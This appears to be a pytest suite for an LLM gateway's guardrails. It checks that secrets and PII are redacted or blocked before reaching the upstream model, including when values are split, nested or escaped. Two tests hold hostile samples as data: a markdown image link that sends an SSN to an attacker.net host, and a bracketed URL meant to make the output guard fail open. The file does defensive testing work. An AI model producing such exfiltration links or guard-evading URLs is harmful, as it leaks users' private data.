"""Review 5 and 6 guard fixes, end to end through the official SDKs and a real gateway.

A placeholder in an answer's link host is stopped before restoring writes the value into
it; a hostile URL no longer switches the output guard off; a value split over text parts,
an e-mail inside a redacted password and an escaped value in tool-call arguments never
reach the upstream, and what is sent stays a valid request.
"""

from __future__ import annotations

import json
from typing import Any

import anthropic
import openai
import pytest

from support.upstream import ANSWER_PREFIX, FakeUpstream

from .conftest import RunningGateway
from .test_anthropic_sdk import client as anthropic_client
from .test_guardrails import (
    AWS_KEY,
    EMAIL,
    POLICY,
    QUIET,
    guardrails_of,
    sent_bodies,
    tenant_with_policy,
    unique_tag,
)
from .test_openai_sdk import client as openai_client

SSN = "123-45-6789"
EXFIL_POLICY = (
    QUIET
    + """
rules:
  - {id: redact-pii, match: {families: [pii]}, action: redact}
guards:
  output: {window_tokens: 16, allowed_domains: [example.com], failure_mode: fail_open}
"""
)
# The echoing upstream answers 'secret="[SECRET_ASSIGNMENT_1]"', which the assignment
# detector takes for a new credential (it does not know placeholders): not judged here.
REDACT_ALL = (
    QUIET
    + "rules:\n  - {id: r, match: {families: [secrets, pii]}, action: redact}\n"
    + "guards:\n  output: {block_new_secrets: false}\n"
)


def streamed_text(chunks: list[Any]) -> tuple[str, str | None]:
    text = "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)
    reasons = [c.choices[0].finish_reason for c in chunks if c.choices]
    return text, reasons[-1] if reasons else None


# --- B1: a placeholder in a link's host -----------------------------------------------------


@pytest.mark.parametrize("model", ["gpt-ok", "claude-ok"])
def test_a_placeholder_in_an_image_host_is_withheld(gateway: RunningGateway, model: str) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, EXFIL_POLICY)
    # The echoing upstream answers with the prompt as sent: the SSN as a placeholder, so
    # the answer holds ![x](https://[US_SSN_1].attacker.net/p.png) before restoring.
    prompt = f"{tag} My SSN is {SSN}. Done ![x](https://{SSN}.attacker.net/p.png)"
    sdk = openai_client(gateway, key)
    with pytest.raises(openai.BadRequestError) as caught:
        sdk.chat.completions.create(model=model, messages=[{"role": "user", "content": prompt}])
    assert caught.value.code == "output_blocked"
    record = guardrails_of(gateway, caught.value.response.headers["x-request-id"])
    assert record["output"]["verdict"] == "block"
    assert record["output"]["findings"][0]["detector"] == "output.exfil_link"

    raw = sdk.chat.completions.with_raw_response.create(
        model=model, messages=[{"role": "user", "content": prompt}], stream=True
    )
    text, reason = streamed_text(list(raw.parse()))
    assert reason == "content_filter"
    assert SSN not in text and "attacker.net" not in text
    assert guardrails_of(gateway, raw.headers["x-request-id"])["output"]["verdict"] == "block"


# --- B5: a hostile URL must not make the guard fail (open) ----------------------------------


@pytest.mark.parametrize("stream", [False, True])
def test_a_bracketed_host_is_judged_not_a_guard_failure(
    gateway: RunningGateway, stream: bool
) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, EXFIL_POLICY)
    prompt = f'{tag} <a href="https://[a]/pppppppppppppppppp">x</a> then more words here'
    messages = [{"role": "user", "content": prompt}]
    sdk = openai_client(gateway, key)
    if stream:
        raw = sdk.chat.completions.with_raw_response.create(
            model="gpt-ok", messages=messages, stream=True
        )
        text, reason = streamed_text(list(raw.parse()))
        assert reason == "content_filter" and "[a]" not in text
        request_id = raw.headers["x-request-id"]
    else:
        with pytest.raises(openai.BadRequestError) as caught:
            sdk.chat.completions.create(model="gpt-ok", messages=messages)
        request_id = caught.value.response.headers["x-request-id"]
    output = guardrails_of(gateway, request_id)["output"]
    assert output["status"] == "ran" and output["verdict"] == "block"  # not failed_open


# --- B2: a value split over text parts ------------------------------------------------------


def test_a_credential_split_over_two_parts_is_blocked(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, POLICY)
    parts = [
        {"type": "text", "text": f"{tag} key {AWS_KEY[:10]}"},
        {"type": "text", "text": AWS_KEY[10:]},
    ]
    with pytest.raises(openai.BadRequestError) as caught:
        openai_client(gateway, key).chat.completions.create(
            model="gpt-ok",
            messages=[{"role": "user", "content": parts}],  # type: ignore[list-item]
        )
    assert caught.value.code == "policy_blocked"
    with pytest.raises(anthropic.BadRequestError):
        anthropic_client(gateway, key).messages.create(
            model="gpt-ok",
            max_tokens=20,
            messages=[{"role": "user", "content": parts}],  # type: ignore[misc]
        )
    assert sent_bodies(upstream, tag) == []


@pytest.mark.parametrize("model", ["claude-ok", "gpt-ok"])
def test_an_email_split_over_blocks_is_redacted_whole(
    gateway: RunningGateway, upstream: FakeUpstream, model: str
) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, POLICY)
    blocks = [
        {"type": "text", "text": f"{tag} mail bob@exa"},
        {"type": "text", "text": "mple.com"},  # left empty by the cut: dropped
        {"type": "text", "text": " please"},
    ]
    raw = anthropic_client(gateway, key).messages.with_raw_response.create(
        model=model,
        max_tokens=50,
        messages=[{"role": "user", "content": blocks}],  # type: ignore[misc]
    )
    assert raw.parse().content[0].text == f"{ANSWER_PREFIX}{tag} mail {EMAIL} please"
    assert raw.headers["x-ramparts-redacted"] == "1"
    [body] = [json.loads(b) for b in sent_bodies(upstream, tag)]
    sent = json.dumps(body)
    assert "[EMAIL_1]" in sent and "bob@" not in sent and "mple.com" not in sent
    content = body["messages"][0]["content"]
    if isinstance(content, list):  # Anthropic: no empty text block
        assert all(block["text"] for block in content)


# --- B4: overlapping redactions ---------------------------------------------------------------


def test_an_email_inside_a_password_takes_the_whole_password(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, REDACT_ALL)
    prompt = f'{tag} Debug this config: secret="hunter2-Qz7 {EMAIL} Rk29LmX!"'
    raw = openai_client(gateway, key).chat.completions.with_raw_response.create(
        model="gpt-ok", messages=[{"role": "user", "content": prompt}]
    )
    assert raw.parse().choices[0].message.content == ANSWER_PREFIX + prompt
    [sent] = sent_bodies(upstream, tag)
    for piece in ("hunter2-Qz7", "Rk29LmX!", EMAIL):
        assert piece not in sent
    assert raw.headers["x-ramparts-redacted"] == "1"
    record = guardrails_of(gateway, raw.headers["x-request-id"])["input"]
    assert record["redacted"] == 1
    assert {f["detector"] for f in record["findings"]} == {"secrets.password_assignment", "email"}


# --- B6: escaped values in tool-call arguments -------------------------------------------------


def tool_history(tag: str, arguments: str) -> list[dict[str, Any]]:
    call = {"id": "c1", "type": "function", "function": {"name": "send", "arguments": arguments}}
    return [
        {"role": "user", "content": f"{tag} go"},
        {"role": "assistant", "content": None, "tool_calls": [call]},
        {"role": "tool", "tool_call_id": "c1", "content": "sent"},
        {"role": "user", "content": f"{tag} and now?"},
    ]


@pytest.mark.parametrize("model", ["claude-ok", "gpt-ok"])
@pytest.mark.parametrize(
    "arguments",
    ['{"to": "bob\\u0040example.com"}', '{"to": "team", "body": "Hi,\\nbob@example.com wrote"}'],
)
def test_escaped_emails_in_arguments_are_redacted_as_json(
    gateway: RunningGateway, upstream: FakeUpstream, model: str, arguments: str
) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, POLICY)
    openai_client(gateway, key).chat.completions.create(
        model=model,
        messages=tool_history(tag, arguments),  # type: ignore[arg-type]
    )
    [body] = [json.loads(b) for b in sent_bodies(upstream, tag)]
    if model == "gpt-ok":
        forwarded = json.loads(body["messages"][1]["tool_calls"][0]["function"]["arguments"])
    else:
        forwarded = body["messages"][1]["content"][0]["input"]
    assert "[EMAIL_1]" in json.dumps(forwarded)
    assert "bob@" not in json.dumps(forwarded, ensure_ascii=False)
    assert "bob\\u0040" not in json.dumps(body)


def test_an_escaped_credential_in_arguments_is_blocked(
    gateway: RunningGateway, upstream: FakeUpstream
) -> None:
    tag = unique_tag()
    _, key = tenant_with_policy(gateway, POLICY)
    arguments = '{"k": "\\u0041' + AWS_KEY[1:] + '"}'
    with pytest.raises(openai.BadRequestError) as caught:
        openai_client(gateway, key).chat.completions.create(
            model="claude-ok",
            messages=tool_history(tag, arguments),  # type: ignore[arg-type]
        )
    assert caught.value.code == "policy_blocked"
    assert sent_bodies(upstream, tag) == []
